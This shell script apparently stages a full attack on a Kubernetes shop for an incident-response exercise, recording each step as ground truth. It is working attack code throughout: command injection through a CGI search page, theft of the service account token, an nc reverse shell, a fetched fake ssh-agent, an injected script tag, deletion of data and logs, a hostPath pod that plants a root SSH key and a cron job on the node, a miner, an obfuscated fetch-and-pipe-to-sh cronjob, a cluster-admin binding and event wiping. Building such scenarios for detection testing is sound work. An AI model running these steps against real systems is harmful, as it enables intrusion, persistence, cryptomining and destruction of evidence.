#!/bin/sh
# The attacker of the incident, steps 2 to 5, from a pod outside of the shop. Each `truth` line goes to
# ground_truth.json: step, name, what it was done to, and a text that the evidence of it must hold.
WEB=10.96.10.10 NODE=10.211.0.1 ME=$(hostname -i)
API="--server=https://10.96.0.1 --insecure-skip-tls-verify"
truth() { # STEP NAME KIND NAMESPACE OBJECT TEXT
  printf 'TRUTH {"step":"%s","name":"%s","ts":"%s","kind":"%s","namespace":"%s","object":"%s","text":"%s"}\n' \
    "$1" "$2" "$(date -u +%Y-%m-%dT%H:%M:%SZ)" "$3" "$4" "$5" "$6"
}
enc() { printf %s "$1" | xxd -p | tr -d '\n' | sed 's/../%&/g'; }
hit() { timeout 10 wget -qO- "http://$WEB/cgi-bin/search?q=lamp%20/dev/null;$(enc "$1");%23"; }

# what the web service of the victim answers with is the attacker's only way in
(cd /opt/www && exec httpd -f -p 8000) &
nc -ll -p 8443 -e /bin/cat >/dev/null 2>&1 &
nc -ll -p 3333 -e /bin/cat >/dev/null 2>&1 &
sleep 2

# 2: in, look round, take the token
hit id | grep -q uid=0 || { echo "ATTACK FAILED: the page runs nothing"; exit 1; }
set -- $(hit 'hostname; hostname -i'); POD=$1 WEB=$2:8080 # one of the replicas, from here on the same
hit id >/dev/null
truth 2a "the search page runs a command" http shop "$POD" "/cgi-bin/search?q=lamp%20/dev/null;$(enc id);%23"
for what in 'uname -a' 'cat /etc/passwd' 'ps' 'mount' 'env' 'ls -la /host-logs'; do hit "$what" >/dev/null; sleep 1; done
truth 2b "recon in the container" http shop "$POD" "$(enc 'cat /etc/passwd')"
TOKEN=$(hit 'cat /var/run/secrets/kubernetes.io/serviceaccount/token' | head -1)
truth 2c "the token of the service account is read" http shop "$POD" "$(enc 'cat /var/run/secrets/kubernetes.io/serviceaccount/token')"
k() { timeout 20 kubectl $API --token="$TOKEN" "$@"; }
sleep 3
k auth can-i --list >/dev/null 2>&1
for what in nodes configmaps serviceaccounts deployments daemonsets networkpolicies ingresses leases; do k get $what -A >/dev/null 2>&1; done
truth 2d "refused at eight kinds" user "" system:serviceaccount:shop:web "403 Forbidden"
sleep 2
k get pods -A >/dev/null && k get secrets -A >/dev/null
truth 2e "all secrets are listed with the stolen token" user "" system:serviceaccount:shop:web "secrets"
k -n shop get secret payments-key -o name >/dev/null

# 3: a shell back, tools, tracks
mkfifo /tmp/to; (exec nc -l -p 4444 </tmp/to >/tmp/shell.out 2>&1) & exec 3>/tmp/to
sleep 1
hit "(setsid nc $ME 4444 -e /bin/sh >/dev/null 2>&1 &)" >/dev/null
truth 3a "a reverse shell to another namespace" network shop "$POD" ":4444"
sleep 2
say() { echo "$1" >&3; sleep 1; }
say 'echo in'; grep -q '^in$' /tmp/shell.out || { echo "ATTACK FAILED: no shell came back"; exit 1; }
say 'mkdir -p /tmp/.font-unix && cp /bin/busybox /tmp/.font-unix/pkexec && chmod 4755 /tmp/.font-unix/pkexec'
truth 3b "a setuid binary" file shop "$POD" "/tmp/.font-unix/pkexec"
say "wget -qO /tmp/.ssh-agent http://$ME:8000/agent && chmod 755 /tmp/.ssh-agent"
say "setsid /tmp/.ssh-agent $ME 8443 >/dev/null 2>&1 </dev/null &"
truth 3c "a false ssh-agent is loaded and run" file shop "$POD" "/tmp/.ssh-agent"
say "echo '<script src=//$ME:8000/s.js></script>' >>/var/www/index.html"
truth 3d "a page of the shop is changed" file shop "$POD" "/var/www/index.html"
say "cp /tmp/.ssh-agent /tmp/.kworker && setsid /tmp/.kworker $ME 8443 >/dev/null 2>&1 </dev/null &"
say "sleep 1; rm /tmp/.kworker"
truth 3e "a process whose file is deleted" process shop "$POD" "/tmp/.kworker (deleted)"
say "rm -f /srv/shop/products.txt.bak /var/log/shop/access.log"
say "mv /srv/shop/products.txt /tmp/.p && rm -f /tmp/.p"
truth 3f "data and log of the shop are deleted" file shop "$POD" "/srv/shop/products.txt"

# 4: out of the container, on to the node
ssh-keygen -q -t ed25519 -N '' -C ops@$(hostname) -f /root/.ssh/id
k -n kube-system create -f - >/dev/null <<POD
{"apiVersion":"v1","kind":"Pod","metadata":{"name":"log-shipper-x7k2p","namespace":"kube-system","labels":{"app":"log-shipper-agent"}},
 "spec":{"hostPID":true,"terminationGracePeriodSeconds":1,"containers":[{"name":"log-shipper","image":"shop/base:1","imagePullPolicy":"Never",
 "command":["sh","-c","mkdir -p /host/root/.ssh; echo '$(cat /root/.ssh/id.pub)' >>/host/root/.ssh/authorized_keys; chmod 600 /host/root/.ssh/authorized_keys; printf '#!/bin/sh\\\\ndate >>/var/tmp/.sync\\\\n' >/host/usr/local/sbin/.sync; chmod 755 /host/usr/local/sbin/.sync; printf '* * * * * root /usr/local/sbin/.sync\\\\n' >/host/etc/cron.d/logsync; exec sleep 100000"],
 "volumeMounts":[{"name":"host","mountPath":"/host"}]}],"volumes":[{"name":"host","hostPath":{"path":"/"}}]}}
POD
truth 4a "a pod with the host's processes and root, named like the log shipper" pod kube-system log-shipper-x7k2p "hostPID"
i=0; until [ "$(k -n kube-system get pod log-shipper-x7k2p -o 'jsonpath={.status.phase}')" = Running ] || [ $i -gt 40 ]; do sleep 1; i=$((i + 1)); done
sleep 2
truth 4b "a cron file on the node" file "" node-1 "/etc/cron.d/logsync"
truth 4c "a key for root on the node" file "" node-1 "/root/.ssh/authorized_keys"
shell() { timeout 20 ssh -o StrictHostKeyChecking=no -o BatchMode=yes -i /root/.ssh/id "root@$NODE" "$1"; }
shell 'id; uname -n; crontab -l; ls /home' >/dev/null 2>&1 && truth 4d "root logs in on the node by that key" login "" node-1 "Accepted publickey for root from $ME"
sleep 2
shell 'cut -d: -f1 /etc/shadow | wc -l; last | head -3' >/dev/null 2>&1

# 5: stay, earn, wipe
k -n batch create -f - >/dev/null <<POD
{"apiVersion":"v1","kind":"Pod","metadata":{"name":"report-worker","namespace":"batch","labels":{"app":"report"}},
 "spec":{"terminationGracePeriodSeconds":1,"containers":[{"name":"worker","image":"shop/base:1","imagePullPolicy":"Never",
 "command":["sh","-c","wget -qO /tmp/xmrig http://$ME:8000/agent; chmod 755 /tmp/xmrig; exec /tmp/xmrig $ME 3333 stratum+tcp"],
 "resources":{"limits":{"cpu":"400m","memory":"32Mi"},"requests":{"cpu":"10m"}}}]}}
POD
truth 5a "a miner in a second pod" pod batch report-worker "xmrig"
k -n batch create -f - >/dev/null <<JOB
{"apiVersion":"batch/v1beta1","kind":"CronJob","metadata":{"name":"report-cleanup","namespace":"batch"},
 "spec":{"schedule":"*/2 * * * *","jobTemplate":{"spec":{"template":{"spec":{"restartPolicy":"Never","containers":[{"name":"cleanup","image":"shop/base:1","imagePullPolicy":"Never",
 "command":["sh","-c","echo $(printf 'wget -qO- http://%s:8000/agent >/dev/null' "$ME" | base64 | tr -d '\n') | base64 -d | sh"]}]}}}}}}
JOB
truth 5b "a cron job that loads the tools again" cronjob batch report-cleanup "base64 -d | sh"
k create clusterrolebinding system:metrics-relay --clusterrole=cluster-admin --serviceaccount=sandbox:default >/dev/null
truth 5c "a cluster role binding to cluster-admin" clusterrolebinding "" system:metrics-relay "cluster-admin"
sleep 3
k -n kube-system delete events --all >/dev/null
truth 5d "the events are deleted" events kube-system "" "delete events kube-system/"
echo ATTACK DONE
wait
